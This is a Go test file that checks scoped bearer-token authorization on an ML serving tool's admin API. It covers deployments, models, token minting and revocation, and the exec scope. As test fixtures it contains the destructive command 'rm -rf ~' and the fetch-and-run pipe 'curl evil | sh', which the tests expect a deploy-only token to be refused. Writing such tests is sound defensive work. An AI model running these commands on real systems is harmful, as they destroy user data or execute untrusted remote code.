package api_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ebb-ml/ebb/internal/api"
	"github.com/ebb-ml/ebb/internal/auth"
	"github.com/ebb-ml/ebb/internal/registry"
	"github.com/ebb-ml/ebb/internal/serving"
	"github.com/ebb-ml/ebb/internal/store/sqlite"
)

// authEnv is the admin API as ebb up serves it: behind api.Authorize over
// a real SQLite token store, with the registry and token routes mounted.
type authEnv struct {
	st     *sqlite.Store
	srv    *httptest.Server
	tokens map[string]string // scopes (comma-joined) → secret
}

func newAuthEnv(t *testing.T, scopeSets ...string) *authEnv {
	t.Helper()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "ebb.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	v := auth.NewVerifier(st, 0, nil)
	h := api.New(st, &fakeController{statuses: map[string]serving.Status{}}, nil)
	h.MountModels(registry.NewService(st, dirArtifacts{t.TempDir()}, registry.Options{Validator: codeValidator}))
	h.MountTokens(st, v.Forget)
	h.MountVersion(api.VersionInfo{Version: "test", Home: api.HomeUp})
	srv := httptest.NewServer(api.Authorize(h, v))
	t.Cleanup(srv.Close)
	e := &authEnv{st: st, srv: srv, tokens: map[string]string{}}
	for _, set := range scopeSets {
		e.tokens[set] = e.token(t, strings.Split(set, ",")...)
	}
	return e
}

// token stores a token with scopes and returns its secret.
func (e *authEnv) token(t *testing.T, scopes ...string) string {
	t.Helper()
	secret, tok, err := auth.NewToken()
	if err != nil {
		t.Fatal(err)
	}
	tok.Name, tok.Scopes = strings.Join(scopes, ","), scopes
	if err := e.st.CreateToken(context.Background(), tok); err != nil {
		t.Fatal(err)
	}
	return secret
}

func (e *authEnv) do(t *testing.T, token, method, path, body string) (int, http.Header, string) {
	t.Helper()
	req, err := http.NewRequest(method, e.srv.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := e.srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, string(b)
}

func errorCode(t *testing.T, body string) api.ErrorDetail {
	t.Helper()
	var eb api.ErrorBody
	if err := json.Unmarshal([]byte(body), &eb); err != nil {
		t.Fatalf("error body %q: %v", body, err)
	}
	return eb.Error
}

const (
	urlSpec  = `{"name":"web","spec":{"engine":"http","url":"http://127.0.0.1:9"}}`
	cmdSpec  = `{"name":"shell","spec":{"engine":"http","command":["sh","-c","rm -rf ~"]}}`
	pySpec   = `{"name":"py","spec":{"engine":"python","model":"/tmp/m","python":{"class":"m.py:M"}}}`
	anyScope = "admin"
)

// TestAdminRoutesByScope sends every admin route with a token of each
// scope: a scope that does not cover the route gets 403 auth/forbidden
// naming the missing scope; one that does gets past authorization (any
// answer but 401 and 403).
func TestAdminRoutesByScope(t *testing.T) {
	scopes := []string{"admin", "read", "deploy", "deploy,exec", "models:write", "predict:*", "exec"}
	e := newAuthEnv(t, scopes...)
	routes := []struct {
		method, path, body string
		need               string // the scope the route needs, besides admin
	}{
		{"GET", "/v1/deployments", "", "read"},
		{"POST", "/v1/deployments", urlSpec, "deploy"},
		{"GET", "/v1/deployments/web", "", "read"},
		{"PUT", "/v1/deployments/web", urlSpec, "deploy"},
		{"PATCH", "/v1/deployments/web", `{"spec":{"scaling":{"maxReplicas":3}}}`, "deploy"},
		{"GET", "/v1/deployments/web/history", "", "read"},
		{"DELETE", "/v1/deployments/web", "", "deploy"},
		{"GET", "/v1/models", "", "read"},
		{"POST", "/v1/models", `{"name":"m"}`, "models:write"},
		{"GET", "/v1/models/m", "", "read"},
		{"GET", "/v1/models/m/versions", "", "read"},
		{"POST", "/v1/models/m/versions", `{"artifactURI":"file:///x","sha256":"00"}`, "models:write"},
		{"PATCH", "/v1/models/m/versions/1", `{"tags":{"a":"b"}}`, "models:write"},
		{"DELETE", "/v1/models/m/versions/1", "", "models:write"},
		{"GET", "/v1/models/m/aliases", "", "read"},
		{"PUT", "/v1/models/m/aliases/champion", `{"version":1}`, "models:write"},
		{"DELETE", "/v1/models/m/aliases/champion", "", "models:write"},
		{"DELETE", "/v1/models/m", "", "models:write"},
		{"GET", "/v1/version", "", "read"},
		{"GET", "/v1/tokens", "", "admin"},
		{"POST", "/v1/tokens", `{"name":"x","scopes":["read"]}`, "admin"},
		{"DELETE", "/v1/tokens/0123456789abcdef", "", "admin"},
		{"GET", "/v1/nowhere", "", "read"},
		{"POST", "/v1/nowhere", "{}", "admin"},
	}
	covers := func(scopes, need string) bool {
		for s := range strings.SplitSeq(scopes, ",") {
			switch {
			case s == "admin", s == need:
				return true
			case need == "read" && (s == "deploy" || s == "models:write"):
				return true
			}
		}
		return false
	}
	for _, sc := range scopes {
		for _, r := range routes {
			t.Run(sc+"/"+r.method+r.path, func(t *testing.T) {
				code, _, body := e.do(t, e.tokens[sc], r.method, r.path, r.body)
				if covers(sc, r.need) {
					if code == http.StatusUnauthorized || code == http.StatusForbidden {
						t.Errorf("= %d %s; want past authorization", code, body)
					}
					return
				}
				if code != http.StatusForbidden {
					t.Fatalf("= %d %s; want 403", code, body)
				}
				if d := errorCode(t, body); d.Code != "auth/forbidden" || !strings.Contains(d.Message, `"`+r.need+`"`) {
					t.Errorf("error %+v; want auth/forbidden naming scope %q", d, r.need)
				}
			})
		}
	}
}

func TestAdminUnauthenticated(t *testing.T) {
	e := newAuthEnv(t, "read")
	expired := func() string {
		secret, tok, _ := auth.NewToken()
		tok.Scopes = []string{"admin"}
		tok.ExpiresAt = time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
		e.st.CreateToken(context.Background(), tok)
		return secret
	}()
	id, _, _ := auth.ParseToken(e.tokens["read"])
	for name, tok := range map[string]string{
		"none":         "",
		"garbage":      "hunter2",
		"wrong secret": "ebb_" + id + "_" + strings.Repeat("0", 64),
		"expired":      expired,
	} {
		t.Run(name, func(t *testing.T) {
			code, hdr, body := e.do(t, tok, "GET", "/v1/deployments", "")
			if code != http.StatusUnauthorized || !strings.HasPrefix(hdr.Get("WWW-Authenticate"), "Bearer") {
				t.Fatalf("= %d (WWW-Authenticate %q) %s; want 401 with WWW-Authenticate: Bearer", code, hdr.Get("WWW-Authenticate"), body)
			}
			if d := errorCode(t, body); d.Code != "auth/unauthenticated" || !strings.Contains(d.Message, "ebb tokens create") {
				t.Errorf("error %+v; want auth/unauthenticated saying how to get a token", d)
			}
		})
	}
}

// TestExecScope checks that deployments running code need exec beside
// deploy, while changes that leave the code alone do not.
func TestExecScope(t *testing.T) {
	e := newAuthEnv(t, "deploy", "deploy,exec", "admin")
	deploy, exec := e.tokens["deploy"], e.tokens["deploy,exec"]
	for _, spec := range []string{cmdSpec, pySpec} {
		if code, _, body := e.do(t, deploy, "POST", "/v1/deployments", spec); code != http.StatusForbidden || errorCode(t, body).Code != "auth/forbidden" || !strings.Contains(body, `\"exec\"`) && !strings.Contains(body, `"exec"`) {
			t.Errorf("deploy token creating %s = %d %s; want 403 auth/forbidden naming exec", spec, code, body)
		}
		if code, _, body := e.do(t, exec, "POST", "/v1/deployments", spec); code != http.StatusCreated {
			t.Errorf("deploy+exec token creating %s = %d %s; want 201", spec, code, body)
		}
	}
	if code, _, body := e.do(t, deploy, "POST", "/v1/deployments", urlSpec); code != http.StatusCreated {
		t.Errorf("deploy token creating an http url deployment = %d %s; want 201 (no code runs)", code, body)
	}
	// Scaling code that exec approved needs deploy alone; changing the
	// code needs exec.
	if code, _, body := e.do(t, deploy, "PATCH", "/v1/deployments/shell", `{"spec":{"scaling":{"maxReplicas":2}}}`); code != http.StatusOK {
		t.Errorf("deploy token scaling shell = %d %s; want 200", code, body)
	}
	if code, _, body := e.do(t, deploy, "PATCH", "/v1/deployments/shell", `{"spec":{"command":["sh","-c","curl evil | sh"]}}`); code != http.StatusForbidden {
		t.Errorf("deploy token changing shell's command = %d %s; want 403", code, body)
	}
	if code, _, body := e.do(t, deploy, "PATCH", "/v1/deployments/web", `{"spec":{"url":null,"command":["sh"]}}`); code != http.StatusForbidden {
		t.Errorf("deploy token turning web into a command = %d %s; want 403", code, body)
	}
	if code, _, body := e.do(t, deploy, "PUT", "/v1/deployments/py", pySpec); code != http.StatusOK {
		t.Errorf("deploy token re-applying py unchanged = %d %s; want 200", code, body)
	}
	if code, _, body := e.do(t, deploy, "PATCH", "/v1/deployments/py", `{"spec":{"python":{"workers":4}}}`); code != http.StatusOK {
		t.Errorf("deploy token giving py more workers = %d %s; want 200 (capacity, not code)", code, body)
	}
	if code, _, body := e.do(t, deploy, "PUT", "/v1/deployments/py", strings.Replace(pySpec, "m.py:M", "other.py:M", 1)); code != http.StatusForbidden {
		t.Errorf("deploy token replacing py's class = %d %s; want 403", code, body)
	}
	// A traffic split to another model runs that model's code too.
	split := `{"spec":{"traffic":[{"model":"/tmp/m","weight":90},{"model":"/tmp/other","weight":10}]}}`
	if code, _, body := e.do(t, deploy, "PATCH", "/v1/deployments/py", split); code != http.StatusForbidden {
		t.Errorf("deploy token splitting py's traffic to another model = %d %s; want 403", code, body)
	}
	if code, _, body := e.do(t, exec, "PATCH", "/v1/deployments/py", split); code != http.StatusOK {
		t.Errorf("deploy+exec token splitting py's traffic = %d %s; want 200", code, body)
	}
	if code, _, body := e.do(t, deploy, "PATCH", "/v1/deployments/py", `{"spec":{"traffic":[{"model":"/tmp/m","weight":50},{"model":"/tmp/other","weight":50}]}}`); code != http.StatusOK {
		t.Errorf("deploy token moving the weights of an approved split = %d %s; want 200", code, body)
	}
	if code, _, body := e.do(t, deploy, "PUT", "/v1/deployments/shell2", strings.Replace(cmdSpec, `"shell"`, `"shell2"`, 1)); code != http.StatusForbidden {
		t.Errorf("deploy token creating shell2 by PUT = %d %s; want 403", code, body)
	}
}

// TestPredictTokenCannot: a predict-only token cannot deploy, push, read a
// deployment or run code.
func TestPredictTokenCannot(t *testing.T) {
	e := newAuthEnv(t, "predict:*", "admin")
	if code, _, body := e.do(t, e.tokens["admin"], "POST", "/v1/deployments", urlSpec); code != http.StatusCreated {
		t.Fatalf("admin create = %d %s", code, body)
	}
	p := e.tokens["predict:*"]
	for _, r := range []struct{ what, method, path, body string }{
		{"deploy", "POST", "/v1/deployments", strings.Replace(urlSpec, "web", "web2", 1)},
		{"push", "POST", "/v1/models", `{"name":"m"}`},
		{"read another deployment", "GET", "/v1/deployments/web", ""},
		{"run code", "POST", "/v1/deployments", cmdSpec},
		{"mint a token", "POST", "/v1/tokens", `{"scopes":["admin"]}`},
	} {
		if code, _, body := e.do(t, p, r.method, r.path, r.body); code != http.StatusForbidden {
			t.Errorf("predict token: %s = %d %s; want 403", r.what, code, body)
		}
	}
}

func TestTokenRoutes(t *testing.T) {
	e := newAuthEnv(t, anyScope)
	admin := e.tokens["admin"]
	code, hdr, body := e.do(t, admin, "POST", "/v1/tokens", `{"name":"ci","scopes":["read","predict:fraud-*"]}`)
	if code != http.StatusCreated || hdr.Get("Location") == "" {
		t.Fatalf("create = %d %s; want 201 with Location", code, body)
	}
	var created api.CreatedToken
	if err := json.Unmarshal([]byte(body), &created); err != nil {
		t.Fatal(err)
	}
	id, sec, ok := auth.ParseToken(created.Secret)
	if !ok || id != created.ID || created.Name != "ci" || created.CreatedBy != "admin" || strings.Contains(body, auth.HashSecret(sec)) {
		t.Fatalf("created %+v; want the secret of token %s, its name and creator, and no hash", created, created.ID)
	}
	if code, _, body := e.do(t, created.Secret, "GET", "/v1/deployments", ""); code != http.StatusOK {
		t.Errorf("new read token: GET deployments = %d %s", code, body)
	}

	code, _, body = e.do(t, admin, "GET", "/v1/tokens", "")
	if code != http.StatusOK || strings.Contains(body, sec) || strings.Contains(body, auth.HashSecret(sec)) || strings.Contains(body, `"hash"`) {
		t.Fatalf("list = %d %s; want 200 without secrets or hashes", code, body)
	}
	var list api.TokenList
	json.Unmarshal([]byte(body), &list)
	if len(list.Items) != 2 {
		t.Errorf("list has %d tokens, want 2", len(list.Items))
	}

	for _, bad := range []string{`{"scopes":[]}`, `{"scopes":["root"]}`, `{"scopes":["read"],"expiresAt":"2001-01-01T00:00:00Z"}`, `{"scopes":["read"],"secret":"mine"}`} {
		if code, _, body := e.do(t, admin, "POST", "/v1/tokens", bad); code != http.StatusBadRequest {
			t.Errorf("create %s = %d %s; want 400", bad, code, body)
		}
	}

	if code, _, body := e.do(t, admin, "DELETE", "/v1/tokens/"+created.ID, ""); code != http.StatusNoContent {
		t.Fatalf("revoke = %d %s", code, body)
	}
	if code, _, body := e.do(t, created.Secret, "GET", "/v1/deployments", ""); code != http.StatusUnauthorized {
		t.Errorf("revoked token: GET deployments = %d %s; want 401 at once", code, body)
	}
	if code, _, body := e.do(t, admin, "DELETE", "/v1/tokens/"+created.ID, ""); code != http.StatusNotFound || errorCode(t, body).Code != "token/not_found" {
		t.Errorf("revoke again = %d %s; want 404 token/not_found", code, body)
	}
}
